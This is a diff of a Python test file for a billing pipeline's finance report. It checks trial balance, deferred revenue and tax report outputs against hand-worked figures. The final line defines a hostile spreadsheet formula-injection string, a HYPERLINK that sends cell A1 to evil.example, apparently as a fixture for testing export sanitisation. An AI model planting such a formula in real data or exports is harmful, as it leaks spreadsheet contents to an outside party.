@@ -162,7 +162,8 @@ def test_report_exports_whole_tables_exactly(report: dict[str, object]) -> None:
     out = Path(str(report["out"]))
     names = ["finance_invoice_reconciliation", "finance_credit_note_reconciliation",
              "finance_payment_reconciliation", "finance_usage_reconciliation",
-             "finance_receivables_aging", "billing_corrections"]
+             "finance_receivables_aging", "billing_corrections", "finance_trial_balance",
+             "finance_deferred_revenue_balance", "finance_tax_report"]
     printed = str(report["printed"])
     assert f"wrote {report['page']}" in printed
     for name in names:
@@ -198,6 +199,78 @@ def test_report_exports_whole_tables_exactly(report: dict[str, object]) -> None:
     assert csv[0].startswith("invoice_id,invoice_number,customer_id,provider,currency,amount_due")
     assert len(csv) == 6
     assert any(",1234567.890000000000," in line for line in csv)
+    # the journal per posting month and account, every month, its balance running
+    trial = pl.read_parquet(out / "finance_trial_balance.parquet")
+    assert trial.schema["balance"] == pl.Decimal(38, 12)
+    receivable = trial.filter(pl.col("account") == "1200 Accounts receivable",
+                              pl.col("currency") == "EUR")
+    # 119.00 (Dec); + 1,000.25 - 234.25 (Jan) = 885.00; - 1,000.25 (Feb) = -115.25
+    assert receivable.select("month", "net", "balance").rows() == [
+        ("2025-12", Decimal("119"), Decimal("119")), ("2026-01", Decimal("766"),
+                                                      Decimal("885")),
+        ("2026-02", Decimal("-1000.25"), Decimal("-115.25"))]
+    assert pl.read_parquet(out / "finance_tax_report.parquet").height == 4
+    assert pl.read_parquet(out / "finance_deferred_revenue_balance.parquet")[
+        "balance"].to_list() == [Decimal("81.11"), Decimal("46.67")]
+
+
+def test_report_journal_and_tax_sections_show_hand_computed_figures(
+        report: dict[str, object]) -> None:
+    """The seeded journal (tests/support/finance_report.py JOURNAL) per account for January,
+    the trial balance per currency, revenue recognized and deferred per month, the tax report."""
+    page = parse(str(report["html"]))
+    assert page.body("journal", "trial-balance") == [
+        # currency, account, lines, debits, credits, net (of January), balance (end of January)
+        ["EUR", "1110 Stripe clearing", "1", "234.25", "0.00", "234.25", "234.25", ""],
+        # Dec +119.00; Jan +1,000.25 - 234.25 = +766.00; balance 885.00 (Feb's payment left out)
+        ["EUR", "1200 Accounts receivable", "2", "1,000.25", "234.25", "766.00", "885.00", ""],
+        ["EUR", "2200 Sales tax payable", "0", "0.00", "0.00", "0.00", "-19.00", ""],
+        # -100.00 deferred, +18.89 (Dec) +34.44 (Jan) recognized: -46.67
+        ["EUR", "2400 Deferred revenue", "1", "34.44", "0.00", "34.44", "-46.67", ""],
+        # -18.89 (Dec); Jan -1,000.25 - 34.44 = -1,034.69; balance -1,053.58
+        ["EUR", "4000 Revenue", "2", "0.00", "1,034.69", "-1,034.69", "-1,053.58", ""],
+        # debits 234.25 + 1,000.25 + 34.44 = 1,268.94 = credits 234.25 + 1,034.69;
+        # balances 234.25 + 885.00 - 19.00 - 46.67 - 1,053.58 = 0
+        ["EUR", "trial balance", "", "1,268.94", "1,268.94", "0.00", "0.00", "balanced"],
+        ["USD", "1200 Accounts receivable", "1", "99.99", "0.00", "99.99", "99.99", ""],
+        ["USD", "4000 Revenue", "1", "0.00", "99.99", "-99.99", "-99.99", ""],
+        ["USD", "trial balance", "", "99.99", "99.99", "0.00", "0.00", "balanced"],
+    ]
+    assert page.body("journal", "revenue-recognized") == [
+        # month, currency, at issue, from deferred, credit notes, recognized
+        ["2025-12", "EUR", "1,000.25", "18.89", "0.00", "1,019.14", "over"],
+        ["2026-01", "EUR", "0.00", "34.44", "-10.00", "24.44", "over"],   # 34.44 - 10.00
+        ["2025-12", "USD", "99.99", "0.00", "0.00", "99.99", "over"],
+    ]
+    assert page.body("journal", "deferred-revenue") == [
+        # 100.00 deferred in December, 18.89 recognized: 81.11; January 81.11 - 34.44 = 46.67
+        ["2025-12", "EUR", "2400 Deferred revenue", "100.00", "18.89", "81.11"],
+        ["2026-01", "EUR", "2400 Deferred revenue", "0.00", "34.44", "46.67"],
+    ]
+    assert page.body("tax", "tax-report") == [
+        ["EUR", "DE", "—", "de_vat", "19 %", "exclusive", "990.25", "188.15", "2", "1"],
+        ["EUR", "FR", "—", "—", "", "exclusive", "100.00", "0.00", "1", "0"],
+        # 990.25 + 100.00; December's row (5,000.00) left out
+        ["EUR", "all", "", "", "", "", "1,090.25", "188.15", "3", "1"],
+        ["USD", "US", "CA", "us_ca_sales", "7.25 %", "exclusive", "99.99", "7.25", "1", "0"],
+        ["USD", "all", "", "", "", "", "99.99", "7.25", "1", "0"],
+    ]
+
+
+def test_report_says_when_the_trial_balance_does_not_balance(
+        billing_env: dict[str, Path], tmp_path: Path) -> None:
+    """A journal line nobody balanced (written by hand, past the blocking check) shows red."""
+    from pipelines.cli import main
+    from tests.support.finance_report import seed_warehouse
+
+    seed_warehouse(billing_env["warehouse"])
+    with connect_writer(str(billing_env["warehouse"])) as con:
+        con.execute("UPDATE finance.journal_lines SET debit = 99.98 "
+                    "WHERE entry_id = 'je_c' AND line_no = 1")
+    main(["report", "--month", MONTH, "--out", str(tmp_path / "out")])
+    page = parse((tmp_path / "out" / f"billing-report-{MONTH}.html").read_text("utf-8"))
+    assert page.body("journal", "trial-balance")[-1] == [
+        "USD", "trial balance", "", "99.98", "99.99", "-0.01", "-0.01", "does not balance"]
 
 
 HOSTILE_DESCRIPTION = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'
